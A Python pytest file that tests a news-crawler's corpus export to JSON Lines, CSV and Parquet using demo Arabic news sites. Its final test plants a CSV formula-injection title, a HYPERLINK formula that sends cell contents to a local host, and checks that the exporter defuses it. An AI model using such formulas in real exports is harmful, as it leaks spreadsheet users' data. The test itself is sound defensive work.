"""Corpus export: a real demo crawl (twice, an article edited between) exported as JSON Lines, CSV and Parquet."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from demo_oracle import serve_demo_sites
from helpers import FAST, ROOT, crawl_cli
from warcio.archiveiterator import ArchiveIterator

from archive.catalogue.db import Catalogue
from archive.export.corpus import COLUMNS, CorpusFilter, ExportError, export_corpus, parse_since
from crawler.cli.main import cli

EDITED_TITLE = "عنوان معدل بعد النشر عن طرابلس"


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A data folder from two real crawls of the demo sites, one article edited in between."""
    root = tmp_path_factory.mktemp("export")
    with serve_demo_sites() as sites:
        seeds = sites.write_seeds(root / "seeds.toml")
        first = crawl_cli(seeds, root / "data")
        assert first.returncode == 0, first.stderr[-2000:]
        feed = next(e for e in sites.expected if e.key == "feed-un-truce")
        sites.edit_article(feed.url, title=EDITED_TITLE)
        # discovery skips archived articles: an edit is caught by a re-check, as the scheduler makes
        proc = subprocess.run([sys.executable, "-m", "crawler.cli.main", "-q", "recrawl", feed.canonical_url, "--data",
                               str(root / "data"), "--seeds", str(seeds), *FAST], check=False,
                              capture_output=True, text=True, timeout=120, cwd=ROOT)
        assert proc.returncode == 0, proc.stderr[-2000:]
    yield root / "data"


def export(data: Path, out: Path, fmt: str, *args: str) -> Path:
    result = CliRunner().invoke(cli, ["export", "--data", str(data), "--format", fmt, "--out", str(out), *args])
    assert result.exit_code == 0, result.output
    assert f"wrote {out}" in result.output
    return out


def load(path: Path) -> pd.DataFrame:
    return {".jsonl": lambda p: pd.read_json(p, lines=True, dtype={"id": str}), ".csv": lambda p: pd.read_csv(p),
            ".parquet": pd.read_parquet}[path.suffix](path)


def catalogue_articles(data: Path, where: str = "1", params: tuple = ()) -> list[dict]:
    con = sqlite3.connect(data / "catalogue.db")
    con.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in con.execute(f"select * from articles where {where} order by seq", params)]
    finally:
        con.close()


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_each_format_loads_in_one_line_of_pandas_with_every_article(data: Path, tmp_path: Path, fmt: str) -> None:
    df = load(export(data, tmp_path / f"corpus.{fmt}", fmt))
    rows = catalogue_articles(data)
    assert list(df.columns) == [c for c, _ in COLUMNS]
    assert sorted(df["id"]) == sorted(r["id"] for r in rows) and len(rows) >= 10
    by_id = {r["id"]: r for r in rows}
    for _, got in df.iterrows():
        want = by_id[got["id"]]
        assert got["title"] == want["title"] and got["text"] == want["text"] and got["url"] == want["url"]
        assert int(got["relevant"]) == want["relevant"] and got["outlet"] == want["outlet"]
    assert set(df["outlet_name"]) == {"صدى الأخبار الليبية", "مرصد الشرق 24", "صحيفة الساحل"}


def test_provenance_points_at_the_warc_record_of_the_text(data: Path, tmp_path: Path) -> None:
    df = load(export(data, tmp_path / "corpus.parquet", "parquet"))
    for _, row in df.head(5).iterrows():
        with open(data / row["warc_file"], "rb") as fh:
            fh.seek(int(row["warc_offset"]))
            record = next(iter(ArchiveIterator(fh)))
            assert record.rec_headers.get_header("WARC-Record-ID") == row["warc_record_id"]
            assert record.rec_headers.get_header("WARC-Target-URI") is not None
            assert record.rec_headers.get_header("WARC-Payload-Digest") == row["payload_digest"]
        assert row["captured_at"] and int(row["http_status"]) == 200


def test_versions_list_and_matched_terms_are_nested_lists(data: Path, tmp_path: Path) -> None:
    jsonl = [json.loads(line) for line in export(data, tmp_path / "c.jsonl", "jsonl").read_text("utf-8").splitlines()]
    edited = next(r for r in jsonl if r["title"] == EDITED_TITLE)
    assert edited["versions"] == 2 and [v["version"] for v in edited["versions_list"]] == [1, 2]
    assert edited["versions_list"][1]["title"] == EDITED_TITLE != edited["versions_list"][0]["title"]
    assert all(v["warc_record_id"].startswith("<urn:uuid:") for v in edited["versions_list"])
    assert {"term", "category", "weight", "count"} == set(edited["matched_terms"][0])
    parquet = pd.read_parquet(export(data, tmp_path / "c.parquet", "parquet"))
    row = parquet[parquet["id"] == edited["id"]].iloc[0]
    assert [v["version"] for v in row["versions_list"]] == [1, 2]
    assert row["matched_terms"][0]["term"] == edited["matched_terms"][0]["term"]
    csv = pd.read_csv(export(data, tmp_path / "c.csv", "csv"))
    assert json.loads(csv[csv["id"] == edited["id"]].iloc[0]["versions_list"])[1]["title"] == EDITED_TITLE


def test_filters_relevant_outlet_and_since(data: Path, tmp_path: Path) -> None:
    df = load(export(data, tmp_path / "f.csv", "csv", "--relevant", "--outlet", "demo-feed", "--outlet",
                     "demo-legacy", "--since", "2019-07-01"))
    want = catalogue_articles(data, "relevant = 1 and outlet in ('demo-feed', 'demo-legacy') and "
                                    "coalesce(nullif(published, ''), first_seen) >= '2019-07-01'")
    assert 0 < len(want) < len(catalogue_articles(data, "relevant = 1"))
    assert list(df["id"]) == [r["id"] for r in want]  # corpus order (seq)
    assert set(df["relevant"]) == {1} and set(df["outlet"]) <= {"demo-feed", "demo-legacy"}
    assert (df["published"].str[:10] >= "2019-07-01").all()


def test_data_card_says_what_when_which_outlets_counts_relevance_and_licence(data: Path, tmp_path: Path) -> None:
    out = export(data, tmp_path / "r.jsonl", "jsonl", "--relevant")
    card = (tmp_path / "r.jsonl.datacard.md").read_text("utf-8")
    relevant = len(catalogue_articles(data, "relevant = 1"))
    assert f"* articles: {relevant} ({relevant} judged relevant)" in card
    assert "relevant articles only" in card and "## How relevance was judged" in card
    assert "| demo-feed | صدى الأخبار الليبية |" in card and "copyright of their outlets" in card
    assert "pd.read_json('r.jsonl', lines=True)" in card and "Cite" in card
    assert "* published: 20" in card and out.name in card


def test_files_follow_the_umask(data: Path, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        out = export(data, tmp_path / "m.parquet", "parquet")
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "m.parquet.datacard.md").stat().st_mode & 0o777 == 0o644
    assert not list(tmp_path.glob(".tmp-*"))


def test_an_empty_selection_still_writes_a_loadable_file(data: Path, tmp_path: Path) -> None:
    df = pq.read_table(export(data, tmp_path / "none.parquet", "parquet", "--since", "2099-01-01")).to_pandas()
    assert len(df) == 0 and list(df.columns) == [c for c, _ in COLUMNS]


@pytest.mark.parametrize("args, message", [
    (["--since", "last tuesday"], "is not a date"),
    (["--outlet", "nope"], "no outlet called 'nope'"),
    (["--crawl", "1"], "are for --format wacz"),
])
def test_bad_requests_are_clear_errors_and_write_nothing(data: Path, tmp_path: Path, args: list[str],
                                                         message: str) -> None:
    out = tmp_path / "x.jsonl"
    result = CliRunner().invoke(cli, ["export", "--data", str(data), "--format", "jsonl", "--out", str(out), *args])
    assert result.exit_code != 0 and message in result.output and "Traceback" not in result.output
    assert not out.exists() and not list(tmp_path.iterdir())


def test_corpus_options_are_refused_for_wacz(data: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["export", "--data", str(data), "--out", str(tmp_path / "a.wacz"), "--relevant"])
    assert result.exit_code != 0 and "for --format jsonl, csv or parquet" in result.output


def test_library_api_and_since_parsing(data: Path, tmp_path: Path) -> None:
    assert parse_since("2019-04-04") == "2019-04-04" and parse_since("2019-04-04T10:00") == "2019-04-04T10:00"
    with pytest.raises(ExportError):
        parse_since("04/04/2019")
    catalogue = Catalogue(data / "catalogue.db")
    try:
        result = export_corpus(catalogue.db, tmp_path / "lib.jsonl", "jsonl", CorpusFilter(outlets=("demo-sitemap",)))
        with pytest.raises(ExportError, match="unknown format"):
            export_corpus(catalogue.db, tmp_path / "lib.xlsx", "xlsx")
    finally:
        catalogue.close()
    assert result.per_outlet == {"demo-sitemap": result.rows} and result.rows > 0


def test_a_title_a_spreadsheet_would_run_is_not_a_formula_in_csv(data: Path, tmp_path: Path) -> None:
    # a hostile page's title "=HYPERLINK(...)" was written as is into the CSV (with a BOM: made for spreadsheets),
    # a live link once opened (a black-box probe, stop 35); JSON Lines keeps the text as it is
    import csv
    import shutil

    copy = tmp_path / "data"
    shutil.copytree(data, copy)
    formula = '=HYPERLINK("http://127.0.0.1/x?"&A1,"طرابلس")'
    cat = Catalogue(copy / "catalogue.db")  # its search-index trigger needs the catalogue's SQL functions
    try:
        with cat.db.conn:
            seq = cat.db.execute("select seq from articles where seq is not null order by seq limit 1").fetchone()[0]
            cat.db.execute("update articles set title = ? where seq = ?", (formula, seq))
    finally:
        cat.close()
    out = export(copy, tmp_path / "c.csv", "csv")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        titles = {row["seq"]: row["title"] for row in csv.DictReader(fh)}
    assert titles[str(seq)] == "'" + formula
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles.values())
    rows = [json.loads(line) for line in export(copy, tmp_path / "c.jsonl", "jsonl").read_text().splitlines()]
    assert next(r["title"] for r in rows if r["seq"] == seq) == formula
    assert "apostrophe" in (tmp_path / "c.csv.datacard.md").read_text(encoding="utf-8")
